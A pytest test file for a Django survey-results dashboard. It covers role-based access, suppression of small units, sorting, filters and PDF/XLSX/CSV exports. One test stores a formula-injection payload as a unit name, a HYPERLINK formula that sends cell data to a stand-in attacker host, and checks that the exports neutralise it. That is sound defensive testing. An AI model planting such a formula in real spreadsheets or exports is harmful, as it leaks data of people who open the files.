"""The dashboard pages and downloads: what each persona sees, hidden groups, sorting, filters, audit."""

from __future__ import annotations

import io
import re
from typing import Any
from urllib.parse import unquote

import pytest
from django.test import Client
from openpyxl import load_workbook

from kundpuls.web.org.models import AuditEvent

BACKEND = "kundpuls.web.accounts.backends.EmailBackend"
UNIT_A = "/portal/resultat/enheter/VOF-HT-N/"
SMALL_UNIT = "VOF-DAG"  # conftest.py: fewer responses than the threshold


def _client(personas: dict[str, Any], who: str) -> Client:
    client = Client()
    client.force_login(personas[who], backend=BACKEND)
    return client


@pytest.mark.django_db
def test_a_manager_sees_her_unit_with_indices_charts_tables_and_comments(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    client = _client(personas, "manager_a")
    page = client.get(UNIT_A + "?survey=nki")
    assert page.status_code == 200
    html = page.content.decode()
    assert "Hemtjänst Norr" in html
    assert html.count("<svg") >= 3  # trend, comparison, priority (+ themes)
    assert html.count("<caption>") >= 3
    assert 'role="img"' in html and "<desc>" in html
    assert "Vad kunderna skrev" in html or "What customers wrote" in html
    # the opening sentence: the main index with its interval and n, and its change
    summary = re.search(r'<p class="summary">([^<]*)</p>', html)
    assert (
        summary is not None and summary.group(1).startswith("Nöjd-Kund-Index ") and "n = " in summary.group(1)
    )
    # three sibling units say nothing in a funnel plot: it is left out and the page says why
    assert "Inget trattdiagram: färre än 4 jämförbara enheter" in html
    # and nothing else speaks of a funnel: not its method, not a size-adjusted value
    assert "n-weighted mean" not in html and "Justerat för enhetens storlek" not in html
    assert 'id="funnel-h"' not in html and 'class="shrunk-estimate"' not in html
    assert "rapport.pdf" in html and "tabeller.xlsx" in html
    assert "<script" not in html.split("</header>", 1)[1]  # no inline scripts in the content
    assert ' style="' not in html  # strict CSP: no inline styles
    # changing the period re-renders for that period
    periods = re.findall(r'<option value="(\d{4}-Q\d)"', html)
    assert len(periods) >= 2
    older = client.get(UNIT_A, {"survey": "nki", "period": periods[0]}).content.decode()
    assert f"<strong>{periods[0]}</strong>" in older


@pytest.mark.django_db
def test_another_units_manager_reaches_neither_page_nor_downloads(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    client = _client(personas, "manager_b")
    for suffix in ("", "rapport.pdf", "tabeller.xlsx", "tabeller.csv"):
        assert client.get(UNIT_A + suffix).status_code == 403
    overview = client.get("/portal/resultat/?survey=nki").content.decode()
    assert "Hemtjänst Norr" not in overview


@pytest.mark.django_db
def test_downloads_are_pdf_xlsx_and_csv_with_the_page_numbers_and_leave_audit_events(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    client = _client(personas, "manager_a")
    pdf = client.get(UNIT_A + "rapport.pdf?survey=nki")
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
    assert pdf.content.startswith(b"%PDF")
    xlsx = client.get(UNIT_A + "tabeller.xlsx?survey=nki")
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.content))
    assert {"Index", "Utveckling över tid", "Jämförelse"} <= set(book.sheetnames)  # named in Swedish
    headline_sheet = book["Index"]
    assert headline_sheet.cell(row=3, column=5).value >= 7  # n of the main index
    csv = client.get(UNIT_A + "tabeller.csv?survey=nki")
    assert csv.status_code == 200 and csv["Content-Type"].startswith("text/csv")
    actions = set(AuditEvent.objects.filter(actor=personas["manager_a"]).values_list("action", flat=True))
    assert {"dashboards.export.pdf", "dashboards.export.xlsx", "dashboards.export.csv"} <= actions


@pytest.mark.django_db
def test_a_unit_under_the_threshold_shows_dashes_and_an_explanation_never_numbers(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    assert 0 < results[SMALL_UNIT] < 7
    client = _client(personas, "admin")
    html = client.get(f"/portal/resultat/enheter/{SMALL_UNIT}/?survey=nki").content.decode()
    cards = re.findall(r'<span class="card-value">([^<]*)</span>', html)
    assert cards and set(cards) == {"–"}
    assert "färre än 7" in html or "fewer than 7" in html
    csv = client.get(f"/portal/resultat/enheter/{SMALL_UNIT}/tabeller.csv?survey=nki").content.decode()
    own_rows = csv.splitlines()[2:7]
    for row in own_rows:
        cells = row.split(";")
        assert all(c in ("–", "") for c in cells[1:5]), row
    overview = client.get("/portal/resultat/?survey=nki").content.decode()
    row = re.search(rf"{SMALL_UNIT}/\?survey=nki\">[^<]*</a></th>(.*?)</tr>", overview, re.S)
    assert row is not None
    assert not re.search(r"\d", re.sub(r"<[^>]+>", "", row.group(1)))


@pytest.mark.django_db
def test_the_overview_sorts_on_the_server_and_flags_only_significant_changes(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    client = _client(personas, "analyst")
    html = client.get(
        "/portal/resultat/", {"survey": "nki", "sort": "estimate", "order": "desc"}
    ).content.decode()
    assert 'aria-sort="descending"' in html
    body = html.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    shown = [float(v.replace(",", ".")) for v in re.findall(r"</th>\s*<td[^>]*>(\d+,\d)</td>", body)]
    assert shown == sorted(shown, reverse=True) and len(shown) >= 4


@pytest.mark.django_db
def test_a_viewer_sees_results_but_neither_comments_nor_downloads(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    client = _client(personas, "viewer")
    html = client.get(UNIT_A + "?survey=nki").content.decode()
    assert "rapport.pdf" not in html
    assert "<q>" not in html  # no comment texts
    refused = client.get(UNIT_A + "rapport.pdf", HTTP_ACCEPT_LANGUAGE="sv")
    assert refused.status_code == 403
    # the refusal says what her role lacks (the files), not that it does not cover the unit she reads
    assert "inte att ladda ner dem som filer" in refused.content.decode()
    assert "omfattar inte den här enheten" not in refused.content.decode()
    other = _client(personas, "manager_b").get(UNIT_A + "rapport.pdf", HTTP_ACCEPT_LANGUAGE="sv")
    assert other.status_code == 403 and "ladda ner dem som filer" not in other.content.decode()


@pytest.mark.django_db
def test_invalid_filters_are_named_in_an_error_summary_and_ignored(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    client = _client(personas, "manager_a")
    page = client.get(UNIT_A, {"survey": "nki", "kind": "decade", "period": "1999-Q9"})
    assert page.status_code == 200
    html = page.content.decode()
    assert 'class="error-summary"' in html
    assert 'href="#id_kind"' in html and 'href="#id_period"' in html
    assert "<svg" in html


@pytest.mark.django_db
def test_the_page_speaks_english_after_the_language_switch(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    client = _client(personas, "manager_a")
    client.post("/i18n/setlang/", {"language": "en", "next": UNIT_A})
    html = client.get(UNIT_A + "?survey=nki").content.decode()
    assert "Results for Hemtjänst Norr" in html
    assert "What customers wrote" in html and "Trend over time" in html
    swedish = _client(personas, "manager_a").get(UNIT_A + "?survey=nki").content.decode()
    assert "Resultat för Hemtjänst Norr" in swedish and "Utveckling över tid" in swedish


@pytest.mark.django_db
def test_a_unit_name_written_as_a_formula_is_text_in_the_xlsx_and_quoted_in_the_csv(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    from kundpuls.web.org.models import Unit

    formula = '=HYPERLINK("http://angripare.example/?"&B3,"Personal")'
    Unit.objects.filter(code="VOF-HT").update(name=formula)  # the parent: a row of the comparison table
    client = _client(personas, "admin")
    book = load_workbook(io.BytesIO(client.get(UNIT_A + "tabeller.xlsx?survey=nki").content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert formula in [c.value for c in cells]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    csv_text = client.get(UNIT_A + "tabeller.csv?survey=nki").content.decode()
    assert "'=HYPERLINK(" in csv_text and ';"=HYPERLINK' not in csv_text and "\n=HYPERLINK" not in csv_text


@pytest.mark.django_db
def test_segments_work_when_some_respondents_skipped_the_background_questions(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    import uuid
    from datetime import UTC, datetime

    from kundpuls.web.org.actors import DEMO
    from kundpuls.web.org.models import Unit
    from kundpuls.web.responses.actions import IncomingResponse, import_responses, sync_to_lake
    from kundpuls.web.surveys.models import Distribution, Survey
    from kundpuls.web.surveys.queries import current_version

    survey = Survey.objects.get(key="nki")
    version = current_version(survey)
    assert version is not None
    link = Distribution.objects.filter(survey=survey, unit=Unit.objects.get(code="VOF-HT-N")).first()
    answers = {
        "tjanst": "socialtjanst",
        "nki_helhet": 7,
        "nki_forvantan": 6,
        "nki_ideal": 6,
    }  # no kanal/alder/kon
    skipped = [
        IncomingResponse(
            distribution=link,
            submission_id=uuid.uuid4(),
            answers=answers,
            language="sv",
            submitted_at=datetime(2026, 6, 1, 10, tzinfo=UTC),
        )
        for _ in range(3)
    ]
    import_responses(version, skipped, actor=DEMO)
    sync_to_lake()
    client = _client(personas, "admin")
    for segment in ("kanal", "alder", "kon"):
        for suffix in ("", "tabeller.xlsx", "tabeller.csv"):
            response = client.get(UNIT_A + suffix, {"survey": "nki", "segment": segment})
            assert response.status_code == 200, (segment, suffix)
    page = client.get(UNIT_A, {"survey": "nki", "segment": "kon"}).content.decode()
    assert "nan" not in re.findall(r'<option value="([^"]*)"', page)


@pytest.mark.django_db
def test_the_unit_page_names_the_matrix_window_and_lists_only_prioritised_areas(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    html = _client(personas, "manager_a").get(UNIT_A + "?survey=nki").content.decode()
    window = re.search(r"Prioriteringsmatris (\d{4}-\d{2}–\d{4}-\d{2})", html)
    assert window is not None
    intro = re.search(r'<p class="advice-intro">([^<]+)</p>', html)
    assert intro is not None and "prioriteringsmatrisen" in intro.group(1)
    assert f"{window.group(1)} (" in intro.group(1)  # the same window as the matrix's title
    section = html.split('id="drivers-h"', 1)[1].split("</section>", 1)[0]
    table = re.findall(
        r"<tr><th[^>]*>([^<]+)</th><td[^>]*>([^<]+)</td><td[^>]*>[^<]+</td><td[^>]*>([^<]+)</td>", section
    )
    assert table, "the matrix's data table"
    prioritised = {area: score for area, score, quadrant in table if quadrant == "Prioritera"}
    listed = re.findall(
        r"<li>([^:<]+): index ([^ ]+) av 100 för ", section.split('class="improve-first"', 1)[-1]
    )
    if prioritised:
        assert dict(listed) == prioritised  # same areas, same index values as the matrix's table
    else:
        assert "Inget område behöver förbättras först" in section and not listed


@pytest.mark.django_db
def test_a_report_filtered_on_a_group_says_so_in_the_pdf_the_tables_and_the_file_names(
    personas: dict[str, Any], results: dict[str, int], tmp_path: Any
) -> None:
    """Before, the PDF and the tables of ``?segment=kon&value=woman`` were headed and named like the whole
    unit's, so a reader took the women's figures for the unit's."""
    import subprocess

    from system_tools import require_tool

    client = _client(personas, "admin")
    query = "?survey=nki&segment=kon&value=woman"
    page = client.get(UNIT_A + query).content.decode()
    lead = re.search(r'<p class="lead">(.*?)</p>', page, re.S)
    assert lead is not None and "Kvinna" in lead.group(1)  # the page names the group, from the codebook
    group = re.sub(r"<[^>]+>", "", lead.group(1)).split(" · ")[-1].strip()
    csv = client.get(UNIT_A + "tabeller.csv" + query)
    assert f"Bara svarande i gruppen {group}." in csv.content.decode()
    named = unquote(csv["Content-Disposition"])
    assert named.startswith("attachment; filename*=utf-8''Hemtjänst Norr 20") and named.endswith(
        " - Kvinna.csv"
    )
    assert "woman" not in named and "VOF-HT-N" not in named  # labels and names, not keys and codes
    whole = client.get(UNIT_A + "tabeller.csv?survey=nki")
    assert "Bara svarande i gruppen" not in whole.content.decode()
    assert "Kvinna" not in unquote(whole["Content-Disposition"])
    pdf = client.get(UNIT_A + "rapport.pdf" + query)
    assert unquote(pdf["Content-Disposition"]) == named.removesuffix(".csv") + ".pdf"
    require_tool("pdftotext")
    path = tmp_path / "group.pdf"
    path.write_bytes(pdf.content)
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True).stdout
    assert f"Bara svarande i gruppen {group}" in " ".join(text.split())


@pytest.mark.django_db
def test_a_file_asked_for_with_a_filter_the_page_would_not_take_is_refused_naming_it(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    """A period without data, a survey she has no results of or an unknown group: the page shows its
    default view beside the error, but a file would silently be of something else, so it is a 400."""
    client = _client(personas, "admin")
    for suffix, query, field, value in (
        ("rapport.pdf", "?survey=nki&period=2099-Q1", "period", "2099-Q1"),
        ("tabeller.csv", "?survey=finns-ej", "survey", "finns-ej"),
        ("tabeller.xlsx", "?survey=nki&segment=kon&value=ingen-sadan", "value", "ingen-sadan"),
    ):
        answer = client.get(UNIT_A + suffix + query, HTTP_ACCEPT_LANGUAGE="sv")
        body = answer.content.decode()
        assert answer.status_code == 400, (suffix, query, body[:200])
        assert body.startswith(f"{field} (") and value in body and "Välj ett giltigt alternativ" in body
    overview = client.get("/portal/resultat/export.csv?survey=nki&period=2099-Q1", HTTP_ACCEPT_LANGUAGE="sv")
    assert overview.status_code == 400 and "2099-Q1" in overview.content.decode()
    # the organisation's code before the key names the same survey: a file, not a refusal
    named = client.get(UNIT_A + "tabeller.csv?survey=EXK:nki")
    assert named.status_code == 200 and named["Content-Type"].startswith("text/csv")


@pytest.mark.django_db
def test_a_key_two_of_her_organisations_use_names_the_one_with_results_on_the_page_and_in_files(
    personas: dict[str, Any], results: dict[str, int]
) -> None:
    """The administrator of the municipality and the region; the region has a draft ``nki`` (no results):
    the choice reads ``EXK:nki``, and ``?survey=nki`` (a bookmark) is that survey, not an invalid choice."""
    from kundpuls.web.org.actors import CLI
    from kundpuls.web.org.models import Unit
    from kundpuls.web.surveys.actions import create_from_template

    create_from_template("nki", owner=Unit.objects.get(code="RGX"), actor=CLI)
    client = _client(personas, "admin")
    page = client.get(UNIT_A + "?survey=nki", HTTP_ACCEPT_LANGUAGE="sv").content.decode()
    assert 'value="EXK:nki" selected' in page and "Välj ett giltigt alternativ" not in page
    for suffix in ("rapport.pdf", "tabeller.csv"):
        for key in ("nki", "EXK:nki"):
            assert client.get(f"{UNIT_A}{suffix}?survey={key}").status_code == 200, (suffix, key)
